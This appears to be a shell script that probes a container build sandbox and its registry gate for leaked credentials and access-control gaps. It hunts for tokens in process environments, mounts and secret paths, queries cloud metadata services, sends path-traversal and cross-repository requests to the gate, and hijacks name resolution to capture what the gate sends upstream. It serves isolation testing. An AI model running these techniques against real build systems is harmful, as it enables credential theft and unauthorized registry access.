#!/bin/sh
# Looks for registry credentials wherever a RUN step can look, and asks the gate
# for what no build needs. Prints "probe: " lines: a hit per place with a
# credential, a line per answer of the gate, and an end.
# Usage: probe.sh WORDS, a file with what to look for, a line each, spelled
# backwards: so neither that file nor a copy of it is a hit.

words=$1

# look reads standard input and says whether it has one of the words.
look() {
  if rev | grep -aqF -f "$words"; then echo "probe: found in $1"; fi
}

# below looks at every file in a directory, or at a file, up to 20 MB of each.
below() {
  find "$1/" -xdev -type f 2>/dev/null | while read -r f; do
    head -c 20000000 "$f" 2>/dev/null | look "$f"
  done
  if [ -f "$1" ]; then head -c 20000000 "$1" | look "$1"; fi
}

env | look environment
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" 2>/dev/null | look "$f"; done
looked=0
# Every mount but those of the kernel, with what is below it.
while read -r _ where kind _; do
  case $kind in proc|sysfs|cgroup*|devpts|mqueue|overlay) continue ;; esac
  looked=$((looked + 1))
  below "$where"
done < /proc/mounts
for dir in /kaniko /var/run/secrets /run/secrets /var/run/kiln-registry /root /home /workspace /tmp; do below "$dir"; done
[ -e /var/run/secrets/kubernetes.io ] && echo "probe: found in /var/run/secrets/kubernetes.io"
# What a cloud takes for a login: files that kiln or a cloud's webhook mounts, and
# variables that name them.
for file in /var/run/kiln-identity /run/kiln-identity /var/run/secrets/eks.amazonaws.com /var/run/secrets/pods.eks.amazonaws.com \
  /var/run/secrets/azure /var/run/secrets/tokens /var/run/service-account; do
  [ -e "$file" ] && echo "probe: found in $file"
done
env | grep -E '^(AWS|AZURE|GOOGLE)_' | while IFS== read -r name _; do echo "probe: found in the variable $name"; done
# The metadata and credential services of clouds: no answer is the good one.
for address in 169.254.169.254 169.254.170.23 '[fd00:ec2::254]'; do
  if wget -T 2 -O - "http://$address/" 2>/dev/null | grep -q .; then echo "probe: found in the answer of http://$address/"; fi
done
# A token of a service account begins with {"alg": in base64.
while read -r _ where kind _; do
  case $kind in tmpfs|ext*|xfs|btrfs) ;; *) continue ;; esac
  for token in "$where"/token "$where"/*/token; do
    if [ -f "$token" ] && head -c 9 "$token" | grep -q '^eyJhbGciO'; then echo "probe: found in $token"; fi
  done
done < /proc/mounts
echo "probe: looked at $looked mounts"

# ask METHOD PATH [BODY] sends a request to the gate and prints its status.
ask() {
  printf '%s %s HTTP/1.1\r\nHost: 127.0.0.1:5001\r\nConnection: close\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\nContent-Length: %d\r\n\r\n%s' \
    "$1" "$2" "${#3}" "$3" | nc -w 10 127.0.0.1 5001 > /tmp/answer 2>/dev/null
  look "the answer to $1 $2" < /tmp/answer
  echo "probe: $1 $2: $(head -n 1 /tmp/answer | cut -d ' ' -f 2)"
}

# Kaniko's arguments tell where the gate lets this build push.
target=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | sed -n 's,^--destination=127.0.0.1:5001/,,p' | head -n 1)
if [ -n "$target" ]; then
  own=/v2/${target%:*}
  tag=${target##*:}
  other=/v2/${target%%/*}/probe/secret
  digest=sha256:$(head -c 64 /dev/zero | tr '\0' a)
  ask GET /v2/_catalog
  ask GET "$own/tags/list"
  ask GET "$other/manifests/latest"
  ask PUT "$own/manifests/latest" '{}'
  ask GET "$own/manifests/k1-another-build"
  ask DELETE "$own/manifests/$tag"
  ask DELETE "$own/blobs/$digest"
  ask POST "$other/blobs/uploads/"
  ask PUT "$own/manifests/$tag?tag=latest" '{}'
  ask PUT "$own/manifests/$tag" '{"schemaVersion":2,"manifests":[]}'
  ask PUT "$own/manifests/k1-another-build" '{}'
  ask GET "$own/manifests/..%2f..%2fsecret"
  ask GET "$own/../../../probe/secret/manifests/latest"
  ask GET "$own/blobs/$digest"
  ask PUT "$other/manifests/latest" '{}'
  # nc closes its side at once, which ends a request that the gate passes on.
  mount="$own/blobs/uploads/?mount=$digest&from=${other#/v2/}"
  code=$(wget -S -O /dev/null --post-data '' "http://127.0.0.1:5001$mount" 2>&1 | sed -n 's,^ *HTTP/1.1 \([0-9]*\).*,\1,p' | head -n 1)
  echo "probe: POST $mount: $code"

  # The registry's name, by the files that the gate shares, becomes this
  # container's, where somebody listens. The gate lets go of a connection that was
  # idle for 15 seconds, and connects anew.
  host=$(echo "${target%%/*}" | sed 's,__,.,g')
  echo "127.0.0.1 ${host%_*}" > /etc/hosts && echo "nameserver 127.0.0.1" > /etc/resolv.conf && echo "probe: rewrote the names"
  mkfifo /tmp/open && exec 9<> /tmp/open # an input that does not end
  nc -l -p "${host##*_}" <&9 > /tmp/heard 2>/dev/null &
  listener=$!
  sleep 17
  wget -q -T 5 -O /dev/null --post-data '' "http://127.0.0.1:5001$own/blobs/uploads/" 2>/dev/null
  kill "$listener" 2>/dev/null
  look "what was sent to ${host%_*}" < /tmp/heard
  echo "probe: heard $(wc -c < /tmp/heard) bytes for ${host%_*}"
  rm -f /tmp/heard /tmp/open
fi
echo "probe: raw socket: $(arping -c 1 -w 1 -I lo 127.0.0.1 2>&1 | tr '\n' ' ')"
rm -f /tmp/answer
echo "probe: end"
